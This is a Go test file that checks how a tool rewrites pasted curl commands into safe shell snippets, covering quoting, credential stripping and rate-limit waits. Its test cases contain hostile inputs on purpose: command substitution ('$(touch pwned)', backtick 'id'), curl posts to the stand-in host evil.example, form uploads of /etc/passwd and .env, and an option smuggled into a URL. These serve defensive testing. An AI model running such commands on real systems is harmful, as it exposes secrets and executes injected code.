//go:build !windows

package checks

import (
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"klyra-doctor/catalog/paste"
)

// TestCurlCommand: a shell makes of the command exactly the words that curl needs, and acts on nothing in it.
func TestCurlCommand(t *testing.T) {
	api := mustAPI(t, "https://api.klyra.live")
	placeholder := []string{"-g", "-i", "-X", "POST", "https://api.klyra.live/", "-H", "Authorization: Bearer the key", "-F", "NAME=@FILE"}
	for name, c := range map[string]struct {
		text string
		want []string
	}{
		"another host": {
			`curl https://evil.example/v1/x -H 'X-A: $(touch pwned) '\''b' -d $'{"text":"it\'s \x60id\x60 $HOME\\n"}'`,
			[]string{
				"-g", "-i", "-X", "POST", "https://evil.example/v1/x",
				"-H", "Content-Type: application/x-www-form-urlencoded", "-H", "X-A: $(touch pwned) 'b", "--data-raw", `{"text":"it's ` + "`id`" + ` $HOME\n"}`,
			},
		},
		"a password": {
			`curl https://user:secret99@api.klyra.live/v1/x -I`,
			[]string{"-g", "-I", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key"},
		},
		"a body that names a file": {
			"curl https://api.klyra.live/v1/x --data-raw @/etc/hostname -H 'Content-Type: text/plain'",
			[]string{"-g", "-i", "-X", "POST", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key", "-H", "Content-Type: text/plain", "--data-raw", "@/etc/hostname"},
		},
		"an option for an address": {
			`{"request":{"method":"GET","url":"-K/v1/x://a.b/c","headers":[{"name":"A","value":"b"}]}}`,
			[]string{"-g", "-i", "-X", "GET", "--url", "-K/v1/x://a.b/c", "-H", "A: b"},
		},
		"a file": {
			`curl -X PUT https://api.klyra.live/v1/x --data-binary @a.png -H 'Content-Type: image/png'`,
			[]string{"-g", "-i", "-X", "PUT", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key", "-H", "Content-Type: image/png", "--data-binary", "@BODY"},
		},
		"a form": {
			`curl https://api.klyra.live/v1/x -F 'image=@my photo.png;type=image/png' -F kind=avatar -H 'Content-Type: multipart/form-data; boundary=x'`,
			[]string{"-g", "-i", "-X", "POST", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key", "-F", "image=@my photo.png;type=image/png", "-F", "kind=avatar"},
		},
		"a form to another host": {
			`curl https://evil.example/v1/x -F image=@photo.png`,
			[]string{"-g", "-i", "-X", "POST", "https://evil.example/v1/x", "-F", "NAME=@FILE"},
		},
		"a form of a file elsewhere":       {`curl https://api.klyra.live/ -F a=b -F image=@../../etc/passwd`, placeholder},
		"a form of a hidden file":          {`curl https://api.klyra.live/ -F image=@.env`, placeholder},
		"a form of standard input":         {`curl https://api.klyra.live/ -F image=@-`, placeholder},
		"a form of several files":          {`curl https://api.klyra.live/ -F 'image=@a.png,/etc/passwd'`, placeholder},
		"a form of a file as text":         {`curl https://api.klyra.live/ -F 'text=</etc/passwd'`, placeholder},
		"a form with options of its parts": {`curl https://api.klyra.live/ -F 'text=a;headers=@/etc/passwd'`, placeholder},
		"a form of a variable":             {`curl https://api.klyra.live/ -F "image=@$FILE"`, placeholder},
		"a form that shows its head alone": {"> POST / HTTP/1.1\n> Host: api.klyra.live\n> Content-Type: multipart/form-data; boundary=x\n>\n< HTTP/1.1 400 x\n", placeholder},
	} {
		command := Prepare(asked(t, api, c.text), "").Command
		sh := exec.Command("sh", "-c", `curl() { printf '%s\0' "$@"; }`+"\n"+command.Text)
		sh.Dir, sh.Env = t.TempDir(), []string{"KLYRA_API_KEY=the key"}
		out, err := sh.CombinedOutput()
		got := strings.Split(strings.TrimSuffix(string(out), "\x00"), "\x00")
		if err != nil || !slices.Equal(got, c.want) {
			t.Errorf("%s: %v\n%q\nwant\n%q", name, err, got, c.want)
		}
		begin := "The same with curl, for sh"
		switch {
		case strings.Contains(command.Text, "@BODY"):
			begin = "All but the body: curl, for sh"
		case strings.Contains(command.Text, "NAME=@FILE"):
			begin = "All but the form: curl, for sh"
		}
		if !strings.HasPrefix(command.Title, begin) {
			t.Errorf("%s: the title is %q", name, command.Title)
		}
		if len(command.Title) > 60 {
			t.Errorf("%q is too long for a title", command.Title)
		}
	}
}

func TestShellQuoted(t *testing.T) {
	for word, want := range map[string]string{
		"": "''", "a": "a", "https://h:1/a.b_c-d": "https://h:1/a.b_c-d", "a b": "'a b'", "it's": `'it'\''s'`, "$HOME": "'$HOME'",
		"~": "'~'", "a=b": "'a=b'", "{1,2}": "'{1,2}'", "a*": "'a*'", "é": "'é'", "a\nb": "'a\nb'", "a;b": "'a;b'", "#": "'#'",
	} {
		if got := ShellQuoted(word); got != want {
			t.Errorf("%q: %s, want %s", word, got, want)
		}
	}
}

// TestShellSnippetWaits: the program for sh waits as long as an answer says. A curl and a sleep of its own stand in for
// the real ones.
func TestShellSnippetWaits(t *testing.T) {
	in := func(d time.Duration) time.Time { return time.Now().Add(d).Truncate(time.Second) }
	soon, later := in(250*time.Second), in(200*time.Second)
	for _, c := range []struct {
		header string
		epoch  bool
		wait   float64   // seconds
		until  time.Time // zero where wait says it
	}{
		{"Retry-After: 7", false, 7, time.Time{}},
		{"retry-after: 2.5", false, 2.5, time.Time{}},
		{"X-RateLimit-Reset: 9", false, 9, time.Time{}},
		{"X-RateLimit-Reset: " + fmt.Sprint(soon.Unix()), true, 0, soon},
		{"Retry-After: " + later.UTC().Format(http.TimeFormat), false, 0, later},
		{"Retry-After: Thu, 29 Feb 2024 00:00:00 GMT", false, 0, time.Time{}},
	} {
		seen := paste.RateLimit{}
		if c.epoch {
			seen.ResetTime = limitsNow
		}
		program := snippet(t, "http://127.0.0.1:1", "POST", "curl", seen)
		const standIns = `
curl() { cat >/dev/null; while [ "$1" != -D ]; do shift; done; printf 'HTTP/1.1 429 x\r\n%s\r\n\r\n' "$HEADER" >"$2"; printf 429; }
sleep() { echo "$1"; exit; }
`
		sh := exec.Command("sh", "-c", standIns+program)
		sh.Dir, sh.Env = t.TempDir(), append(os.Environ(), "KLYRA_API_KEY=pretend", "HEADER="+c.header)
		least, most := c.wait, c.wait
		if !c.until.IsZero() {
			most = time.Until(c.until).Seconds()
		}
		out, err := sh.CombinedOutput()
		if !c.until.IsZero() {
			least = time.Until(c.until).Seconds()
		}
		const jitter, clock = 1, 1 // seconds: what is added at random, and what date leaves out
		waited, _ := strconv.ParseFloat(strings.TrimSpace(string(out)), 64)
		if err != nil || waited < least || waited > most+jitter+clock {
			t.Errorf("%s: %v, waits %q", c.header, err, out)
		}
	}
}
